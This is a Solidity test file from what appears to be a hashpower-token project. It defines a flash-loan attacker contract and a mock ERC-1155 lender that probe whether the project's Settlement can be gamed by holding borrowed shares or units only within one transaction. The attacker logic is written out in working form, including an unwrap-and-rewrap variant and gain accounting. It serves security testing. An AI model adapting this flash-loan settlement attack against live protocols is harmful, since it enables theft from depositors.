// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC1155} from "@openzeppelin/contracts/token/ERC1155/IERC1155.sol";
import {ERC1155Holder} from "@openzeppelin/contracts/token/ERC1155/utils/ERC1155Holder.sol";
import {IMorphoFlashLoanCallback} from "@morpho-org/morpho-blue/src/interfaces/IMorphoCallbacks.sol";
import {IHashpowerToken} from "../interfaces/IHashpowerToken.sol";
import {ISeriesWrapper} from "../interfaces/ISeriesWrapper.sol";
import {ISettlement} from "../interfaces/ISettlement.sol";

/// @notice Minimal Morpho Blue flash-loan entry point.
interface IMorphoFlash {
    function flashLoan(address token, uint256 assets, bytes calldata data) external;
}

/// @notice Minimal ERC-1155 flash lender (see `RawUnitFlashLender`).
interface IUnitFlashLender {
    function flashLoan(uint256 id, uint256 units, bytes calldata data) external;
}

/// @title FlashSettleAttacker
/// @notice Test-only attacker: holds units or shares only inside one transaction around `Settlement.settle`.
///         - `attackMorpho(unwrapInside = false)`: flash-borrows every share Morpho Blue holds (its real `flashLoan`),
///           settles the given days while holding them, returns the shares.
///         - `attackMorpho(unwrapInside = true)`: same, but unwraps the shares into raw units (taking the sats
///           they carry) before settling, then wraps them back (paying the then-current index in) to repay.
///         - `attackRaw`: flash-borrows raw ERC-1155 units from a lender contract and settles while holding them.
///         Afterwards `gained()` = payout-asset balance − start balance + claimable in the token, sats.
contract FlashSettleAttacker is ERC1155Holder, IMorphoFlashLoanCallback {
    IHashpowerToken public immutable token;
    ISettlement public immutable settlement;
    IERC20 public immutable asset;

    uint256 public startBalance;
    uint256 private _id;
    uint256[] private _ids;
    uint32[] private _days;
    bool private _unwrap;
    ISeriesWrapper private _wrapper;
    address private _morpho;

    constructor(IHashpowerToken token_, ISettlement settlement_, IERC20 asset_) {
        token = token_;
        settlement = settlement_;
        asset = asset_;
    }

    /// @notice Records the starting balance (call after funding the attacker).
    function start() external {
        startBalance = asset.balanceOf(address(this));
    }

    /// @notice Flash-borrows every share Morpho holds and settles (`ids[i]`, `dayList[i]`) while holding them.
    function attackMorpho(
        address morpho,
        ISeriesWrapper wrapper,
        uint256[] calldata ids,
        uint32[] calldata dayList,
        bool unwrapInside
    ) external {
        (_morpho, _wrapper, _id, _ids, _days, _unwrap) = (morpho, wrapper, wrapper.seriesId(), ids, dayList, unwrapInside);
        uint256 shares = IERC20(address(wrapper)).balanceOf(morpho);
        IMorphoFlash(morpho).flashLoan(address(wrapper), shares, "");
    }

    function onMorphoFlashLoan(uint256 assets, bytes calldata) external {
        require(msg.sender == _morpho, "not morpho");
        if (_unwrap) {
            _wrapper.unwrap(assets, address(this));
            _settle();
            IERC1155(address(token)).setApprovalForAll(address(_wrapper), true);
            asset.approve(address(_wrapper), type(uint256).max);
            _wrapper.wrap(assets, address(this));
        } else {
            _settle();
        }
        IERC20(address(_wrapper)).approve(_morpho, assets);
    }

    function attackRaw(IUnitFlashLender lender, uint256 id, uint256 units, uint32[] calldata dayList) external {
        (_id, _days) = (id, dayList);
        delete _ids;
        for (uint256 i; i < dayList.length; ++i) _ids.push(id);
        lender.flashLoan(id, units, "");
    }

    /// @notice Callback of `RawUnitFlashLender`: settle while holding, then give the units back.
    function onUnitFlashLoan(uint256 id, uint256 units, bytes calldata) external {
        _settle();
        IERC1155(address(token)).safeTransferFrom(address(this), msg.sender, id, units, "");
    }

    /// @notice Sats gained: asset balance − start balance + claimable in the token (series `id`).
    function gained(uint256 id) external view returns (int256) {
        return int256(asset.balanceOf(address(this)) + token.claimable(address(this), id)) - int256(startBalance);
    }

    function _settle() private {
        settlement.settle(_ids, _days);
    }
}

/// @title RawUnitFlashLender
/// @notice Test-only ERC-1155 flash lender (a stand-in for any venue that lends or flash-swaps raw units): sends
///         `units` to the caller, calls `onUnitFlashLoan`, and requires them back in the same call.
contract RawUnitFlashLender is ERC1155Holder {
    IERC1155 public immutable token;

    constructor(IERC1155 token_) {
        token = token_;
    }

    function flashLoan(uint256 id, uint256 units, bytes calldata data) external {
        uint256 before = token.balanceOf(address(this), id);
        token.safeTransferFrom(address(this), msg.sender, id, units, "");
        FlashSettleAttacker(msg.sender).onUnitFlashLoan(id, units, data);
        require(token.balanceOf(address(this), id) >= before, "not repaid");
    }
}
